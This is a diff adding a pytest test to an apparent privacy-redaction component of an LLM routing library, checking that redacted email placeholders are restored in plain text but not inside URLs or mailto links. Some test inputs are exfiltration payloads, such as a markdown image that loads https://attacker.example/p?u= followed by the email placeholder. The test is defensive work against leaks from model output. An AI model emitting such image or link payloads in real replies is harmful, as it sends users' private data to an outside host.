@@ -284,3 +284,23 @@ def test_provider_errors_that_echo_the_prompt_are_not_recorded(openai_server: Op
         assert records[0].privacy and "Invalid value" not in dumped and "Invalid value" not in spans
     else:  # the rest of the message stays, for debugging
         assert "Invalid value" in dumped and "[REDACTED]" in dumped
+
+
+@pytest.mark.parametrize(
+    ("reply", "restored"),
+    [
+        ("Write to [EMAIL_1] today.", True),
+        ('{"to":"[EMAIL_1]"}', True),  # structured output keeps its values
+        ("**[EMAIL_1]**", True),
+        ("![x](https://attacker.example/p?u=[EMAIL_1])", False),
+        ('<a href="mailto:[EMAIL_1]">mail</a>', False),
+        ("mailto:[EMAIL_1]", False),
+        ("www.attacker.example/[EMAIL_1]", False),
+        ("[click](\n[EMAIL_1])", True),  # a link target does not span lines
+    ],
+)
+def test_restore_tells_plain_text_from_addresses(reply: str, restored: bool) -> None:
+    from llmroute.policies.privacy.redaction import Redaction
+
+    out = Redaction((), {"[EMAIL_1]": EMAIL}).restore(reply)
+    assert (EMAIL in (out or "")) is restored
